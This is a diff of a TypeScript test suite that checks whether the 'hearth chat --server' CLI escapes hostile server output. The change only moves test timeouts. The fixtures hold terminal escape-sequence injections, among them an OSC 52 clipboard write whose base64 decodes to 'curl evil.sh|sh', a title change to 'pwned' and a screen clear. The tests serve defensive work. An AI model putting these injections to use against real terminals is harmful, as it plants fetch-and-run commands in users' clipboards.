@@ -41,8 +41,8 @@ async function hostileServer(t: TestContext, model: string, error: string): Prom
   return `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
 }
 
-describe("hearth chat --server: what the server says", { timeout: 120_000 }, () => {
-  it("its error message is shown escaped on stderr", async (t) => {
+describe("hearth chat --server: what the server says", () => {
+  it("its error message is shown escaped on stderr", { timeout: 120_000 }, async (t) => {
     const url = await hostileServer(t, "m", "boom \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\u009b1A\rgone");
     const run = await hearth(["chat", "--server", url, "--no-rules", "hi"], tempDir("hearth-error-print-"));
     assert.equal(run.status, 1, run.stderr);
@@ -50,7 +50,7 @@ describe("hearth chat --server: what the server says", { timeout: 120_000 }, () 
     assert.equal(RAW_CONTROL.exec(run.stderr), null, JSON.stringify(run.stderr));
   });
 
-  it("with --verbose, the runtime's log lines that name its model are shown escaped", async (t) => {
+  it("with --verbose, the runtime's log lines that name its model are shown escaped", { timeout: 120_000 }, async (t) => {
     const url = await hostileServer(t, "m\x1b]0;pwned\x07\x1b]52;c;eA==\x07x", "down");
     const run = await hearth(["chat", "--verbose", "--server", url, "--no-rules", "hi"], tempDir("hearth-error-print-"));
     assert.equal(run.status, 1, run.stderr);
